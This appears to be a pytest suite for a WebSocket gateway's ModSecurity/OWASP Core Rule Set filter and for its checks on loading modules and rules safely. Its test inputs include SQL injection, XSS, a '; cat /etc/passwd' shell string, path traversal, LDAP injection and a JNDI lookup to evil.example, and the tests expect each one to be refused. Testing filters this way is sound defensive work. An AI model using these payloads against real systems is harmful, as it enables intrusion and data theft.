# SPDX-License-Identifier: Apache-2.0
"""`injection_engine` (docs/injection.md): libmodsecurity with the OWASP Core Rule Set judges messages, and what cannot be
trusted or understood is never loaded."""
import os
import shutil
import signal
import subprocess
import threading

import pytest

from gateward_server import ROOT, GatewardServer, binary_path
from raw_client import RawWebSocket
from talk import PLAIN, ROOMY, ask, error, is_quiet, run_gateward

BUILT = os.path.join(os.path.dirname(os.path.abspath(binary_path())), "modules", "modsecurity", "modsecurity.so")
CORE_RULES = "Include /etc/modsecurity/crs/crs-setup.conf\nInclude /usr/share/modsecurity-crs/rules/*.conf\n"
REFUSED = error("content_refused", "Message content refused")
ACK = {"type": "ack", "message": "Message received"}
MESSAGES = {
    "chat": {"injection": ["/text"], "injection_by": "module"},
    "both": {"injection": ["/a", "/b"], "injection_by": "module"},
    "whole": {"injection": ["message"], "injection_by": "module"},
    "watched": {"injection": ["/text"], "injection_by": "module", "mode": "observe"},
    "signs": {"injection": ["/text"]},
}

pytestmark = pytest.mark.skipif(not os.path.exists(BUILT) or not os.path.exists("/usr/share/modsecurity-crs"),
                                reason="built without libmodsecurity, or there is no modsecurity-crs")


def write(path, text, mode=0o644):
    path.write_text(text)
    path.chmod(mode)
    return str(path)


@pytest.fixture(scope="module")
def module(tmp_path_factory):
    """A copy whose mode and owner do not depend on how the source tree was checked out."""
    path = tmp_path_factory.mktemp("module") / "modsecurity.so"
    shutil.copyfile(BUILT, path)
    path.chmod(0o755)
    return str(path)


def config(module, rules, messages=None):
    return {"limits": ROOMY, "listen": PLAIN, "messages": messages or MESSAGES,
            "injection_engine": {"module": module, "rules": rules}}


@pytest.fixture(scope="module")
def house(tmp_path_factory, module):
    folder = tmp_path_factory.mktemp("house")
    rules = write(folder / "rules.conf", CORE_RULES)
    with GatewardServer(folder, {**config(module, rules), "server": {"workers": 2}}) as running:
        yield running


@pytest.fixture
def ws(house):
    with RawWebSocket.login(house, "mallory") as open_ws:
        yield open_ws


@pytest.mark.parametrize("text, family", [
    ("' OR '1'='1' --", "sql"), ("1 UNION SELECT password FROM users", "sql"), ("1; DROP TABLE users; --", "sql"),
    ("<script>alert(1)</script>", "script"), ("<img src=x onerror=alert(1)>", "script"),
    ("; cat /etc/passwd", "shell"), ("../../../../etc/passwd", "path"), ("*)(uid=*))(|(uid=*", "ldap"),
])
def test_the_core_rule_set_refuses(house, ws, text, family):
    before = len(house.events("message_refused", detail="chat %s /text" % family))
    assert ask(ws, {"type": "chat", "text": text}) == REFUSED
    house.wait_for_event("message_refused", count=before + 1, detail="chat %s /text" % family)
    assert ask(ws, {"type": "chat", "text": {"deep": [text]}}) == REFUSED
    assert ask(ws, {"type": "both", "a": "x", "b": text}) == REFUSED
    assert ask(ws, {"type": "whole", "anything": [{"else": text}]}) == REFUSED


@pytest.mark.parametrize("text", [
    "hello bob, lunch at 12?", "It's 5 o'clock; isn't that nice?", "I'd select the union from 1 to 5 -- ok", "", "\u00fc\u4e16 \U0001f600",
    "a < b, and c > d", "see https://example.com/page?id=7", "x" * 5000, 7, None, True, ["a", {"b": ["c"]}], [0] * 99, ["x"] * 99,
])
def test_what_people_write_passes(ws, text):
    assert ask(ws, {"type": "chat", "text": text}) == ACK
    assert ask(ws, {"type": "chat"}) == ACK


def test_names_of_members_are_judged(ws):
    assert ask(ws, {"type": "chat", "text": {"<script>alert(1)</script>": 1}}) == REFUSED


@pytest.mark.parametrize("text", ["x" * 9000, [0] * 100, ["x"] * 120 + ["<script>alert(1)</script>"], {"a": ["y" * 9000]}])
def test_what_is_not_read_to_its_end_is_refused(ws, text):
    assert ask(ws, {"type": "chat", "text": text}) == REFUSED
    assert is_quiet(ws)


def test_no_verdict_is_told_apart_in_the_log(house, ws):
    assert ask(ws, {"type": "chat", "text": "x" * 9000}) == REFUSED
    house.wait_for_event("message_refused", detail="chat no_verdict /text")


def test_a_type_may_be_watched_and_others_keep_the_signs(house, ws):
    assert ask(ws, {"type": "watched", "text": "<script>alert(1)</script>"}) == ACK
    house.wait_for_event("policy_observed", detail="watched script /text")
    assert ask(ws, {"type": "signs", "text": "{{7*7}}${jndi:ldap://evil.example/a}"}) == REFUSED


def test_many_threads_judge_at_once(house):
    wrong = []

    def talk(name):
        with RawWebSocket.login(house, name) as own:
            for i in range(25):
                if ask(own, {"type": "chat", "text": "it is %d" % i}) != ACK:
                    wrong.append((name, i, "passes"))
                if ask(own, {"type": "chat", "text": "' OR '1'='1' -- %d" % i}) != REFUSED:
                    wrong.append((name, i, "refused"))

    threads = [threading.Thread(target=talk, args=("user-%d" % i,)) for i in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert not wrong


def test_nothing_that_is_judged_is_written_down(house, ws):
    assert ask(ws, {"type": "chat", "text": "<script>alert('a secret word')</script>"}) == REFUSED
    assert ask(ws, {"type": "chat", "text": "good, a secret word"}) == ACK
    for name in os.listdir(house.directory):
        if os.path.isfile(house.path(name)):
            with open(house.path(name), "rb") as f:
                assert b"secret word" not in f.read(), name


def test_rules_that_only_observe_decide_here_and_write_nothing(tmp_path, module):
    logs = [tmp_path / "audit.log", tmp_path / "debug.log"]
    rules = write(tmp_path / "rules.conf", "SecRuleEngine DetectionOnly\nSecRequestBodyAccess Off\nSecArgumentsLimit 2\n"
                  "SecAuditEngine On\nSecAuditLogType Serial\nSecAuditLogParts ABCIJDEFHZ\nSecAuditLog %s\n"
                  "SecDebugLog %s\nSecDebugLogLevel 9\n" % tuple(logs) +
                  'SecRule REQUEST_FILENAME "@streq /chat" "id:1,phase:2,deny,auditlog,chain"\nSecRule ARGS "@contains bad" ""\n')
    folder = tmp_path / "house"
    folder.mkdir()
    with GatewardServer(folder, config(module, rules)) as server, RawWebSocket.login(server, "bob") as own:
        assert ask(own, {"type": "chat", "text": "good"}) == ACK
        assert ask(own, {"type": "chat", "text": ["a", "b", "c", "bad"]}) == REFUSED
        assert ask(own, {"type": "whole", "text": "bad"}) == ACK
        server.wait_for_event("message_refused", detail="chat other /text")
    for log in logs:
        assert not log.exists() or log.read_text() == ""


def test_a_reload_reads_the_rules_again_and_keeps_the_old_where_the_new_are_broken(tmp_path, module):
    rules = tmp_path / "rules.conf"
    write(rules, 'SecRule ARGS "@contains red" "id:1,phase:2,deny"\n')
    folder = tmp_path / "house"
    folder.mkdir()
    with GatewardServer(folder, config(module, str(rules))) as server, RawWebSocket.login(server, "bob") as own:
        assert ask(own, {"type": "chat", "text": "red"}) == REFUSED
        assert ask(own, {"type": "chat", "text": "blue"}) == ACK
        write(rules, 'SecRule ARGS "@contains blue" "id:1,phase:2,deny"\n')
        server.signal(signal.SIGHUP)
        server.wait_for_event("reload", outcome="ok")
        assert ask(own, {"type": "chat", "text": "blue"}) == REFUSED
        assert ask(own, {"type": "chat", "text": "red"}) == ACK
        write(rules, "SecNonsense On\n")
        server.signal(signal.SIGHUP)
        server.wait_for_event("reload", outcome="error")
        assert ask(own, {"type": "chat", "text": "blue"}) == REFUSED


# --- what cannot be loaded, told by `gateward check`

def check(folder, changes, messages=None):
    """What `gateward check` says of a configuration with a working engine and these changes to it."""
    rules = write(folder / "rules.conf", "SecRuleEngine On\n")
    server = GatewardServer(folder, {**config(changes.pop("module"), rules, messages)})
    engine = {"rules": rules, **server.config["injection_engine"], **changes}
    server.config["injection_engine"] = {key: value for key, value in engine.items() if value is not None}
    server.write_config()
    result = run_gateward("check", server.config_path)
    return result.returncode, result.stdout + result.stderr


def refuses(folder, words, messages=None, **changes):
    code, said = check(folder, changes, messages)
    assert code == 1, said
    for word in words if isinstance(words, (list, tuple)) else [words]:
        assert word in said, said


def test_a_good_engine_is_fine(tmp_path, module):
    code, said = check(tmp_path, {"module": module})
    assert code == 0, said


def test_a_missing_module_is_told(tmp_path):
    refuses(tmp_path, ["injection_engine", "/gateward/no-such.so: No such file"], module="no-such")
    refuses(tmp_path, "/nowhere/x.so: No such file", module="/nowhere/x.so")


@pytest.mark.parametrize("name", ["./modsecurity.so", "modsecurity.so", "../modsecurity", "a/b", "Modsecurity", "x" * 65])
def test_nothing_is_loaded_from_a_relative_path(tmp_path, module, name):
    shutil.copyfile(module, tmp_path / "modsecurity.so")
    refuses(tmp_path, "a module is named by an absolute path, or by a name that lies in", module=name)


@pytest.mark.parametrize("mode", [0o775, 0o757, 0o777, 0o666])
def test_a_module_that_others_can_write_is_refused(tmp_path, module, mode):
    copy = tmp_path / "m.so"
    shutil.copyfile(module, copy)
    copy.chmod(mode)
    refuses(tmp_path, "m.so can be written by others (mode %03o)" % mode, module=str(copy))


def test_a_folder_that_others_can_write_is_refused(tmp_path, module):
    folder = tmp_path / "open"
    folder.mkdir()
    shutil.copyfile(module, folder / "m.so")
    folder.chmod(0o777)
    refuses(tmp_path, "/open can be written by others", module=str(folder / "m.so"))
    folder.chmod(0o755)
    link = tmp_path / "link.so"
    link.symlink_to(folder / "m.so")
    assert check(tmp_path, {"module": str(link)})[0] == 0
    folder.chmod(0o777)
    refuses(tmp_path, "/open can be written by others", module=str(link))


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
def test_a_module_of_another_user_is_refused(tmp_path, module):
    copy = tmp_path / "m.so"
    shutil.copyfile(module, copy)
    os.chown(copy, 65534, 65534)
    refuses(tmp_path, "m.so belongs to somebody who is neither root nor the user of this process", module=str(copy))


def test_what_is_no_module_is_refused(tmp_path):
    refuses(tmp_path, "invalid ELF header", module=write(tmp_path / "m.so", "not a library at all, but long enough " * 9))
    refuses(tmp_path, "is no regular file", module=str(tmp_path))


def build(folder, name, source):
    path = folder / (name + ".c")
    path.write_text(source)
    target = folder / (name + ".so")
    subprocess.run(["cc", "-shared", "-fPIC", "-I", os.path.join(ROOT, "include"), "-o", target, path], check=True)
    target.chmod(0o755)
    return str(target)


def test_a_library_without_the_interface_or_with_another_one_is_refused(tmp_path):
    refuses(tmp_path, "it exports no gw_injection_module", module=build(tmp_path, "none", "int other;\n"))
    other = '#include "gateward_injection.h"\nconst struct gw_injection_module gw_injection_module = {.abi = 7};\n'
    refuses(tmp_path, "is made for interface 7, this gateward has 1", module=build(tmp_path, "other", other))


def test_broken_or_missing_rules_are_told_with_their_line(tmp_path, module):
    broken = write(tmp_path / "broken.conf", "SecRuleEngine On\nSecNonsense On\n")
    refuses(tmp_path, ["injection_engine", "broken.conf", "Line: 2"], module=module, rules=broken)
    refuses(tmp_path, "/nowhere.conf: No such file", module=module, rules="/nowhere.conf")
    refuses(tmp_path, "nowhere.conf: No such file", module=module, rules="nowhere.conf")
    open_rules = write(tmp_path / "open.conf", "SecRuleEngine On\n", 0o666)
    refuses(tmp_path, "open.conf can be written by others (mode 666)", module=module, rules=open_rules)


def test_keys_that_do_not_go_together_are_told(tmp_path, module):
    by = {"injection": ["/q"], "injection_by": "module"}
    refuses(tmp_path, "needs `module` and `rules`", module=module, rules=None)
    refuses(tmp_path, "needs `module` and `rules`", module=None)
    refuses(tmp_path, "no type of `messages` has `injection_by: module`", {"t": {"injection": ["/q"]}}, module=module)
    refuses(tmp_path, "`injection` must say which texts", {"t": {"injection_by": "module"}}, module=module)
    refuses(tmp_path, "rules of a module have a threshold of their own", {"t": {**by, "injection_score": 5}}, module=module)
    server = GatewardServer(tmp_path, {"messages": {"t": by}})
    said = run_gateward("check", server.config_path)
    assert said.returncode == 1 and "no `injection_engine` says which" in said.stdout + said.stderr
